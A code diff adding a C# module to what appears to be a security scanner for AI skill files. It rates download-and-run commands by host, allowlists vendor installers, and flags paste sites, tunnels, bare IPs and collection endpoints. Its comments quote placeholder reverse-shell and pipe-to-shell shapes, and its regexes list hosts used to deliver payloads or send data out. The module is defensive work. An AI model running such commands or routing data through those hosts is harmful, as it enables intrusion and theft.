@@ -1,0 +1,213 @@
+using System.Text.RegularExpressions;
+
+namespace OpenClaw.Desired.Resources.Skills.Audit;
+
+/// <summary>
+/// Where a download comes from decides what running it means: a vendor's documented installer (uv, Bun, Docker,
+/// Homebrew, Tailscale…) is ordinary, a paste site or bare IP is a lure, anything else is unreviewed code.
+/// The installer hosts are a data row, meant to grow.
+/// </summary>
+public static partial class Origins
+{
+    /// <summary>Hosts (and host/path prefixes) that serve a vendor's own documented install script.</summary>
+    public static IReadOnlyList<string> VendorInstallers { get; } =
+    [
+        "astral.sh", "bun.sh", "deno.land", "deno.com", "sh.rustup.rs", "rustup.rs", "get.docker.com", "raw.githubusercontent.com/Homebrew/", "brew.sh",
+        "ollama.com", "ollama.ai", "tailscale.com", "aka.ms", "cli.github.com", "get.pnpm.io", "install.python-poetry.org", "pyenv.run", "fnm.vercel.app",
+        "starship.rs", "get.k3s.io", "sh.vector.dev", "install.determinate.systems", "nixos.org", "foundry.paradigm.xyz", "release.solana.com",
+        "release.anza.xyz", "claude.ai", "openclaw.ai", "opencode.ai", "cursor.com", "get.helm.sh", "raw.githubusercontent.com/nvm-sh/", "get.volta.sh",
+        "sdk.cloud.google.com", "awscli.amazonaws.com", "fly.io", "deb.nodesource.com", "rpm.nodesource.com", "get.rvm.io", "mise.run", "get.jetpack.io",
+        "install.duckdb.org", "cli.doppler.com", "get.pulumi.com", "get.sdkman.io", "bitwarden.com", "1password.com", "cli.vercel.com", "supabase.com",
+        "repo.anaconda.com", "repo.continuum.io", "github.com/conda-forge/miniforge/", "dl.k8s.io", "raw.githubusercontent.com/aquasecurity/",
+        "raw.githubusercontent.com/anchore/", "get.trunk.io", "install.terraform.io", "firebase.tools", "get.scoop.sh", "setup.atuin.sh", "rclone.org",
+        "raw.githubusercontent.com/ohmyzsh/", "install.ohmyz.sh", "raw.githubusercontent.com/helm/", "get.acme.sh", "zed.dev", "install.pi-hole.net",
+        "raw.githubusercontent.com/pyenv/", "pkgx.sh", "get.chezmoi.io", "get.jetify.com", "get.k0s.sh", "install.meteor.com", "code-server.dev",
+        "raw.githubusercontent.com/golangci/", "install.crystal-lang.org", "get.wasmer.io", "wasmtime.dev", "dot.net", "install.julialang.org", "ohmyposh.dev",
+        "direnv.net", "just.systems", "raw.githubusercontent.com/ajeetdsouza/zoxide/", "raw.githubusercontent.com/rbenv/", "dprint.dev",
+        "raw.githubusercontent.com/jesseduffield/", "atuin.sh", "get.static-web-server.net", "moonrepo.dev", "keploy.io", "pixi.sh",
+    ];
+
+    /// <summary>download-exec: medium from a vendor's documented installer host, critical from anywhere else.</summary>
+    public static AuditSeverity? JudgeDownloadExec(string text, Match match)
+    {
+        // "bash -c "$(curl -fsSL URL)"" matches before its URL: the host is on the rest of the line. A URL with its
+        // scheme comes first, so the file a download is saved to (curl -o ~/x/miniconda.sh URL) is not taken for a host.
+        var host = SchemeUrl().Match(match.Value) is { Success: true } withScheme ? withScheme : Url().Match(match.Value);
+        if (!host.Success)
+        {
+            var end = text.IndexOf('\n', match.Index + match.Length);
+            host = Url().Match(text[match.Index..(end < 0 ? text.Length : end)]);
+        }
+
+        if (IsTemplate(match.Value))
+        {
+            return AuditSeverity.Low;
+        }
+
+        var target = host.Success ? host.Groups["target"].Value : match.Value;
+        if (Untrusted().IsMatch(target))
+        {
+            return AuditSeverity.Critical;
+        }
+
+        return VendorInstallers.Any(v => target.StartsWith(v, StringComparison.OrdinalIgnoreCase) || target.Contains("." + v, StringComparison.OrdinalIgnoreCase))
+            ? AuditSeverity.Medium
+            : AuditSeverity.Critical;
+    }
+
+
+    /// <summary>
+    /// A command whose target is a placeholder (<c>curl http://&lt;ip&gt;/x | bash</c>, <c>bash -i &gt;&amp; /dev/tcp/&lt;ip&gt;/&lt;port&gt;</c>,
+    /// <c>echo '&lt;base64&gt;' | base64 -d | sh</c>) is the shape of an attack a scanner matches, not one that can run.
+    /// </summary>
+    public static bool IsTemplate(string command) => Template().IsMatch(command);
+
+    /// <summary>A critical command, low as a <see cref="IsTemplate">template</see>.</summary>
+    public static AuditSeverity? JudgeTemplate(string text, Match match)
+    {
+        // The command the match is in (a line holds several after ';', '&&', '||'), and only when it has no real target.
+        var line = LineJudges.LineOf(text, match.Index);
+        var segment = Segments().Split(line).FirstOrDefault(s => s.Contains(match.Value.Length > 12 ? match.Value[..12] : match.Value, StringComparison.Ordinal)) ?? line;
+        return IsTemplate(segment) && !RealTarget().IsMatch(segment) ? AuditSeverity.Low : AuditSeverity.Critical;
+    }
+
+    [GeneratedRegex(@"(?:://|/dev/(?:tcp|udp)/|\becho\s+['""]?|<<<\s*['""]?|-(?:EncodedCommand|enc|e)\s+|\bnc\s+(?:-\w+\s+)*)<[\w .…|-]{1,30}>", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex Template();
+
+    [GeneratedRegex(@";|&&|\|\|")]
+    private static partial Regex Segments();
+
+    /// <summary>What a runnable command has and a template has not: a URL, an address or a payload.</summary>
+    [GeneratedRegex(@"://[^\s<'""]|/dev/(?:tcp|udp)/[^<\s]|[A-Za-z0-9+/]{24,}={0,2}", RegexOptions.CultureInvariant)]
+    private static partial Regex RealTarget();
+
+    /// <summary>
+    /// A collection service's host alone in quotes (<c>"webhook.site"</c>, <c>'requestbin.net'</c>) is an entry of a
+    /// list, a guard's blocklist or a scanner's indicators: no request goes to a host without a path.
+    /// </summary>
+    public static bool IsQuotedHost(string text, Match match)
+    {
+        if (match.Value.AsSpan().IndexOfAny(":/") >= 0)
+        {
+            return false;
+        }
+
+        var end = match.Index + match.Length;
+        while (end < text.Length && (char.IsAsciiLetterOrDigit(text[end]) || text[end] is '.' or '-'))
+        {
+            end++;
+        }
+
+        return match.Index > 0 && text[match.Index - 1] is '"' or '\'' or '`' && end < text.Length && text[end] == text[match.Index - 1];
+    }
+
+    /// <summary>A collection service named: low as a host alone in quotes (<see cref="IsQuotedHost"/>), otherwise as <see cref="JudgeLink"/> judges it.</summary>
+    public static AuditSeverity? JudgeEndpoint(string text, Match match) =>
+        IsQuotedHost(text, match) ? AuditSeverity.Low : JudgeLink(text, match);
+
+    /// <summary>A link that is a placeholder (<c>YOUR_ID</c>, <c>&lt;your-url&gt;</c>, <c>…</c>) or an image is configuration or decoration, not a sink.</summary>
+    public static AuditSeverity? JudgeLink(string text, Match match)
+    {
+        var end = match.Index + match.Length;
+        var stop = text.AsSpan(end).IndexOfAny(" \t\r\n\"'`)>]");
+        var rest = text.AsSpan(end, stop < 0 ? Math.Min(200, text.Length - end) : stop);
+        var before = text.AsSpan(Math.Max(0, match.Index - 40), match.Index - Math.Max(0, match.Index - 40));
+        if (Placeholder().IsMatch(rest) || Placeholder().IsMatch(before[(before.LastIndexOfAny(" \t\n\"'`(") + 1)..])
+            || Image().IsMatch(rest) || before.Contains("![", StringComparison.Ordinal))
+        {
+            return null;
+        }
+
+        return AuditSeverity.Medium;
+    }
+
+    /// <summary>
+    /// A recipient of a handover (<see cref="Signal.Recipient"/>): an e-mail address, a chat handle or bot, or a page no
+    /// one vouches for (paste site, shortener, form service, bare IP) always counts. Telegram's own bots (@BotFather)
+    /// do not, nor does a placeholder, nor a page the reader is sent to for getting a key ("get your API key at …"),
+    /// nor a page on a host the skill names elsewhere: its provider's own.
+    /// </summary>
+    public static AuditSeverity? JudgeRecipient(string text, Match match)
+    {
+        var value = match.Value;
+        if (OfficialBot().IsMatch(value) || JudgeLink(text, match) is null)
+        {
+            return null;
+        }
+
+        var url = Url().Match(value);
+        if (!value.Contains("://", StringComparison.Ordinal) || !url.Success)
+        {
+            return AuditSeverity.Low;
+        }
+
+        var target = url.Groups["target"].Value;
+        if (Untrusted().IsMatch(target) || FormService().IsMatch(target))
+        {
+            return AuditSeverity.Low;
+        }
+
+        // The user's own settings on a code host (a repository's or account's secrets page) is where a token is configured.
+        if (OwnSettings().IsMatch(target))
+        {
+            return null;
+        }
+
+        var lineStart = match.Index == 0 ? 0 : text.LastIndexOf('\n', match.Index - 1) + 1;
+        if (GetsAKey().IsMatch(text.AsSpan(lineStart, match.Index - lineStart)))
+        {
+            return null;
+        }
+
+        // The provider's own pages: its domain (the last two labels) named elsewhere in the file, off this line.
+        var host = target.Split('/')[0];
+        var labels = host.Split('.');
+        var domain = labels.Length >= 2 ? $"{labels[^2]}.{labels[^1]}" : host;
+        var lineEnd = text.IndexOf('\n', match.Index);
+        lineEnd = lineEnd < 0 ? text.Length : lineEnd;
+        // Off this line, or (a wrapped paragraph is one line) elsewhere than in this link.
+        return text.AsSpan(0, lineStart).Contains(domain, StringComparison.OrdinalIgnoreCase) || text.AsSpan(lineEnd).Contains(domain, StringComparison.OrdinalIgnoreCase)
+            || Occurrences(text.AsSpan(lineStart, lineEnd - lineStart), domain) > Occurrences(value, domain)
+            ? null
+            : AuditSeverity.Low;
+    }
+
+    private static int Occurrences(ReadOnlySpan<char> text, string value)
+    {
+        var count = 0;
+        for (var at = text.IndexOf(value, StringComparison.OrdinalIgnoreCase); at >= 0; at = text[(at + value.Length)..].IndexOf(value, StringComparison.OrdinalIgnoreCase) is var next && next >= 0 ? at + value.Length + next : -1)
+        {
+            count++;
+        }
+
+        return count;
+    }
+
+    [GeneratedRegex(@"^(?:github\.com|gitlab\.com|bitbucket\.org)/(?:[^/\s]+/){0,2}(?:-/)?settings/", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex OwnSettings();
+
+    [GeneratedRegex(@"@(?:BotFather|userinfobot|RawDataBot|GetIDsBot|SpamBot|discord|telegram)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex OfficialBot();
+
+    [GeneratedRegex(@"^(?:forms\.gle|docs\.google\.com/forms|(?:[\w-]+\.)*(?:typeform\.com|jotform\.com|tally\.so|formspree\.io|forms\.office\.com|airtable\.com/shr|form\.jotform|surveymonkey\.com|wufoo\.com))", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex FormService();
+
+    /// <summary>The clause before a link says where a key comes from, not where it goes (and names no request that carries it there).</summary>
+    [GeneratedRegex(@"\b(?:get|obtain|create|generate|find|grab|copy|retrieve|sign\s+up|log\s+in|register|docs|documentation)\b(?:(?!\b(?:post|put|send|upload|body|request|submit)\b)[^.!?:;]){0,80}$|\b(?:available|found|issued)\s+(?:at|on|in|from|via|by)\b(?:(?!\b(?:post|put|send|upload|body|request|submit)\b)[^.!?:;]){0,30}$", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex GetsAKey();
+
+    [GeneratedRegex(@"(?:https?://|\b)(?<target>(?:[\w-]+\.)+[a-z]{2,}(?:/[^\s|;""']*)?|(?:\d{1,3}\.){3}\d{1,3}[^\s|;""']*)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex Url();
+
+    [GeneratedRegex(@"https?://(?<target>(?:[\w-]+\.)+[a-z]{2,}(?:/[^\s|;""']*)?|(?:\d{1,3}\.){3}\d{1,3}[^\s|;""']*)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex SchemeUrl();
+
+    [GeneratedRegex(@"^(?:(?:\d{1,3}\.){3}\d{1,3}|(?:[\w-]+\.)*(?:glot\.io|pastebin\.com|paste\.ee|rentry\.(?:co|org)|hastebin\.\w+|0x0\.st|transfer\.sh|temp\.sh|termbin\.com|bit\.ly|tinyurl\.com|is\.gd|gist\.githubusercontent\.com|raw\.githack\.com|ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|bore\.pub|duckdns\.org))\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex Untrusted();
+
+    [GeneratedRegex(@"YOUR[_-]|<[^>]*>|\.\.\.|…|\{\{|\$\{|\$[A-Z_][A-Z0-9_]{2,}\b|%[A-Z_][A-Z0-9_]*%|xxx|example|placeholder", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex Placeholder();
+
+    [GeneratedRegex(@"\.(?:png|jpe?g|gif|webp|svg|ico|mp4|webm|mp3)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex Image();
+}
